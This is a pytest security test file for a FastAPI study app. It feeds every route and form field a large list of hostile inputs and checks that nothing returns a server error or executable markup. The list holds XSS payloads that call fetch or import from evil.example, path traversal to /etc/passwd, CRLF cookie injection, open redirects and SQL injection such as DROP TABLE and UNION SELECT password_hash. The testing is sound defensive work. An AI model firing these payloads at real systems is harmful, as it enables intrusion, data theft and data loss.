"""Hostile text in every form and every field of the API: nothing is answered by 5xx, and nothing comes back that runs."""

import re
from collections.abc import Iterator, Mapping, Sequence
from datetime import timedelta
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from selectolax.lexbor import LexborHTMLParser
from sqlalchemy import update

from app.accounts.models import LearnerRow
from app.db.store import Store
from app.kernel.clock import FixedClock
from app.kernel.roles import Role
from app.library.importing import Importer
from app.library.katex import KatexTypesetter
from app.main import create_app
from app.settings import Settings
from tests.interview.debriefing.sitting import BOOK
from tests.people import add_person, browser_of
from tests.web.test_routes import PARTS, TABLE, address

_CALLS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "fetch('//evil.example')",
    "import('//evil.example/x.js')",
)
_MARKUP = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    '"><script>{}</script>', "'-{}-'", "</title><script>{}</script>", "<details open ontoggle={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>", "[x](javascript:{})", "![x](javascript:{})", "$\\href{{javascript:{}}}{{x}}$",
    "$\\htmlData{{onload={}}}{{x}}$", "<template><script>{}</script></template>", "<form action=javascript:{}><button>",
    "<input autofocus onfocus={}>", "<base href=//evil.example/><script>{}</script>",
    "<style>@import '//evil.example';</style>{}",
    "<object data='data:text/html,<script>{}</script>'>", "<link rel=stylesheet href=//evil.example/x.css>{}",
    "{{{{ {} }}}}", "${{{}}}", "<div hx-get=//evil.example hx-trigger=load>{}</div>", "<div hx-on:load={}>x</div>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)  # fmt: skip
_OTHERS = (
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "C:\\Windows\\win.ini", "/proc/self/environ",
    "a\r\nSet-Cookie: viva=stolen", "a%0d%0aLocation: //evil.example", "//evil.example", "https:evil.example", "/\\evil.example",
    "' OR 1=1 --", "'; DROP TABLE card; --", "%' UNION SELECT password_hash FROM account --", "\0", "a\0b", "\ud7ff\ufffe",
    "\u202e\u2066abc", "\u200b", "а" * 100, "аdmin", "a" * 20_000, "🙂" * 4_000, "9" * 400, "-1", "1e309", "NaN", "٣", "0x10",
    str(2**63), str(-(2**63)), "[" * 3_000, "(" * 3_000, "$" * 3_000, "`" * 3_000, "*a" * 3_000, "\\" * 3_000, "<" * 3_000,
    "$$\\def\\a{\\a\\a}\\a$$", "$\\rule{1e9em}{1e9em}$", "{" * 2_000, "&#x6a;avascript:",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "null", "true", "{}", "[]", '{"a": 1}', "",
)  # fmt: skip
HOSTILE = (*(form.format(call) for form in _MARKUP for call in _CALLS), *_OTHERS)
_FIELDS = (
    "name", "password", "next", "link", "code", "old", "new", "theme", "zone", "disk_changes", "rollover_hour", "new_per_day",
    "reviews_per_day", "desired_retention", "grade", "seen_reps", "took_ms", "scope_handbook", "scope_topic", "seen_review",
    "action", "query", "card", "cards", "tag", "text", "base", "back", "title", "question", "answer", "topic", "count", "only",
    "behaviour", "time_limit", "topics", "number", "certainty", "choice", "order", "scope", "days", "role", "blueprint", "seed",
    "position", "opinion", "note", "minutes", "flagged", "kind", "guess", "days_valid", "credential", "email",
)  # fmt: skip
_RUNS = re.compile(r"^\s*(javascript|data:text|vbscript)", re.IGNORECASE)


@pytest.fixture
def store(empty_store: Store, tmp_path: Path, clock: FixedClock, typesetter: KatexTypesetter) -> Store:
    """A small handbook under the name and with the topic that addresses are made of, so that pages are small."""
    path = tmp_path / f"{PARTS['slug']}.md"
    path.write_text(BOOK, encoding="utf-8")
    Importer.over(empty_store, clock, typesetter).import_file(path)
    return empty_store


@pytest.fixture
def owner(
    store: Store, tmp_path: Path, clock: FixedClock, monkeypatch: pytest.MonkeyPatch
) -> Iterator[TestClient]:
    url = store.engine.url.render_as_string(hide_password=False)
    settings = Settings(data_dir=tmp_path, database_url=url, hosts="testserver")
    app = create_app(settings, clock, store, works=False)
    person = add_person(store, "anna", Role.OWNER, clock.now())
    monkeypatch.setattr(app.state.wiring.meter, "take", lambda *_: timedelta(0))  # nobody is turned away
    with browser_of(app, store, person, clock.now()) as made:
        yield made


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 150


def test_hostile_text_in_every_form_and_address(owner: TestClient, subtests: pytest.Subtests) -> None:
    """Every route gets as many texts as there are fields, each field another; the next route begins where this one ends."""
    routes = [route for route in TABLE if not route.endswith(("/sign-out", "/sign-ins/end", "/events"))]
    texts = cycle(HOSTILE)
    for route in routes:
        with subtests.test(route):
            _send(owner, route, dict(zip(_FIELDS, texts, strict=False)), next(texts))


# What comes back does not depend on the database.
@pytest.mark.parametrize("empty_store", ["sqlite"], indirect=True)
def test_every_hostile_text_in_what_pages_echo(owner: TestClient, subtests: pytest.Subtests) -> None:
    for path in _ECHOES:
        with subtests.test(path):
            for text in _together(HOSTILE):
                _check(owner.get(path + _quoted(text)), text)


@pytest.mark.parametrize("empty_store", ["sqlite"], indirect=True)
def test_every_hostile_text_as_a_persons_name(owner: TestClient, store: Store, clock: FixedClock) -> None:
    """Given by a form, and shown on one page with all others."""
    form = dict(re.findall(r'name="(\w+)"[^>]*value="([^"]*)"', owner.get("/settings").text))
    form |= {"theme": "dark", "disk_changes": "apply", "zone": "UTC"}
    for number, text in enumerate(HOSTILE):
        _check(owner.post("/settings", data={**form, "name": text[:80]}), text)
        person = add_person(store, f"person-{number}", Role.LEARNER, clock.now())
        with store.write() as tx:
            name = text[:80].encode("utf-8", "replace").decode()
            tx.execute(update(LearnerRow).where(LearnerRow.id == person).values(name=name))
    everybody = owner.get("/people")
    _check(everybody, "all of them")
    assert everybody.text.count("&lt;script&gt;") >= 20


_ECHOES = ("/search?q=", "/cards?q=", "/sign-in?next=", "/handbooks/", "/join?link=", "/settings?saved=")


def _together(texts: Sequence[str]) -> Iterator[str]:
    """The short ones some at once: what is escaped is escaped wherever it stands."""
    short = [text for text in texts if len(text) < 70]
    for start in range(0, len(short), 6):
        yield " ".join(short[start : start + 6])
    yield from (text for text in texts if len(text) >= 70)


def _send(client: TestClient, route: str, form: Mapping[str, str], text: str) -> None:
    """The route with each text in a field of its query, of a form and of a document of JSON; the last alone, and in its path."""
    method, path = address(route)
    in_address = "&".join(f"{name}={_quoted(one[:100])}" for name, one in form.items())
    _check(client.request(method, f"{path}?{in_address}"), form)
    if method != "GET":
        _check(client.request(method, path, data=form), form)
        _check(client.request(method, path, json=form), form)
        _check(client.request(method, path, content=text.encode("utf-8", "surrogatepass")), text)
    hostile = _quoted(text)
    raw = re.sub(r"\{[^}]+\}", lambda _: hostile[:2_000], route.split(" ", 1)[1])
    if raw != route.split(" ", 1)[1]:
        _check(client.request(method, raw), text)


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text[:3_000].encode("utf-8", "surrogatepass")) or "%20"


def _check(answer: Any, sent: object) -> None:
    text = str(sent)[:3_000]
    assert answer.status_code < 500, (
        answer.request.method,
        str(answer.request.url)[:200],
        text,
        answer.text[:300],
    )
    assert "evil.example" not in answer.headers.get("location", "").partition("?")[0]
    assert "stolen" not in answer.headers.get("set-cookie", "")
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    if not answer.headers.get("content-type", "").startswith("text/html"):
        return
    for node in LexborHTMLParser(answer.text).css("*"):
        assert node.tag not in ("iframe", "object", "embed", "base"), text
        if node.tag == "script":
            assert (node.attributes.get("src") or "").startswith("/static/"), text
        for name, value in node.attributes.items():
            assert not name.startswith(("on", "hx-on")), (name, text)
            assert not _RUNS.match(value or "") or name in ("value", "content", "aria-label"), (
                name,
                value,
                text,
            )
